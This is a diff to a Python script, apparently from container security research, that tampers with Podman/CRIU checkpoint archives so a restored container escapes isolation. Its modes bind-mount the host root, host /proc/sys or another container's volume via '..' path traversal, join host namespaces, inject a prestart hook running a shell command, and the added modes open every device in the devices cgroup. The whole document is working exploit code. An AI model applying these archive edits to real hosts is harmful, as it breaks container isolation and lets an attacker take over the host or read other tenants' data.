@@ -109,20 +109,25 @@ def pyc(data, fn):
 
 
 SELF = ("selfdd", "selfddrun", "selfvol", "selflink", "selfproc")
-NS = ("nsmnt", "nsuts", "nsipc", "nspid", "nsuser", "hook")
+DEV = ("devrule", "devlist")
+NS = DEV + ("nsmnt", "nsuts", "nsipc", "nspid", "nsuser", "hook")
 def spec_edit(spec):
     if mode == "selfdd":  # the container's own userdata (root's, not movable) climbed out of with '..'
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": ud + "/../../../../../../..", "options": ["rbind", "rw"]})
     elif mode == "selfddrun":
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": f"/run/containers/storage/overlay-containers/{cid}/userdata/../../../../../..", "options": ["rbind", "rw"]})
+    elif mode == "selfvol":  # another container's named volume, not in config.dump's namedVolumes
+        spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": "/var/lib/containers/storage/volumes/attack30f-victimvol/_data", "options": ["rbind", "rw"]})
     elif mode == "selfproc":  # the host's /proc/sys (runc resolves the source in the host's mount namespace)
         spec["mounts"].append({"destination": "/mnt/sys", "type": "bind", "source": ud + "/../../../../../../../proc/sys", "options": ["rbind", "rw"]})
     elif mode == "selflink":  # a link the archive itself puts in the userdata directory (podman untars it there)
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": ud + "/attack30f-link/.", "options": ["rbind", "rw"]})
-    elif mode in NS[:5]:
+    elif mode in ("nsmnt", "nsuts", "nsipc", "nspid", "nsuser"):
         kind = {"nsmnt": "mount", "nsuts": "uts", "nsipc": "ipc", "nspid": "pid", "nsuser": "user"}[mode]
         path = "/proc/self/ns/" + {"mount": "mnt"}.get(kind, kind)
         spec["linux"]["namespaces"] = [n for n in spec["linux"]["namespaces"] if n["type"] != kind] + [{"type": kind, "path": path}]
+    elif mode == "devrule":  # every device allowed in the devices cgroup (podman run denies all but its list)
+        spec["linux"]["resources"]["devices"] = [{"allow": True, "access": "rwm"}]
     elif mode == "hook":
         spec.setdefault("hooks", {})["prestart"] = [{"path": "/bin/sh", "args": ["sh", "-c", "id > /var/tmp/attack30f/hook-ran"]}]
         spec["hooks"]["createRuntime"] = spec["hooks"]["prestart"]
@@ -152,6 +157,17 @@ def freezer_perms(doc):
             for p in d.get("properties", []):
                 if p["name"] == "freezer.state" and "perms" in p:
                     p["perms"] = {"mode": 0o100644, "uid": 0, "gid": 0}
+    if mode == "devlist":  # the container's own devices cgroup: devices.list = every device (CRIU writes it back?)
+        for controller in doc["entries"][0]["controllers"]:
+            if "devices" in controller["cnames"]:
+                for d in controller.get("dirs", []):
+                    def walk(d):
+                        for p in d.get("properties", []):
+                            if p["name"] == "devices.list":
+                                print("devices.list was", repr(p["value"])[:200], file=sys.stderr); p["value"] = "a *:* rwm\n"
+                        for c in d.get("children", []):
+                            walk(c)
+                    walk(d)
     if mode == "cgdev":
         for cg_set in doc["entries"][0]["sets"]:
             for ctl in cg_set["ctls"]:
@@ -310,7 +326,7 @@ with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as 
             info.size, info.mode = len(nested), 0o600; tout.addfile(info, io.BytesIO(nested))
         if m.name == "checkpoint/inventory.img" and mode == "mntdumper":
             data = pyc(data, inventory_edit)
-        if m.name == DEVTAR and mode == "cgdev":
+        if m.name == DEVTAR and mode in ("cgdev",) + DEV:
             data = dev_tar(data)
         if data is not None:
             m.size = len(data); tout.addfile(m, io.BytesIO(data))
